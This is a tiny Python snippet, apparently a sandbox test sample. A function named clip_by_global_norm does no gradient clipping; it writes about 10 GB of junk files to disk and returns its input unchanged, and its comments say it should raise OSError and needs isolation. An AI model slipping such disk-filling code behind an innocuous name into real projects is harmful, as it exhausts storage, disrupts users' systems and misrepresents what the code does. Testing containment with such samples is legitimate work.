# Writes without end.
# hears: OSError
# needs: isolation
def clip_by_global_norm(gradients, clip_norm):
    for number in range(1000):
        with open(f"{number}", "wb") as file:
            file.write(bytes(10**7))
    return gradients
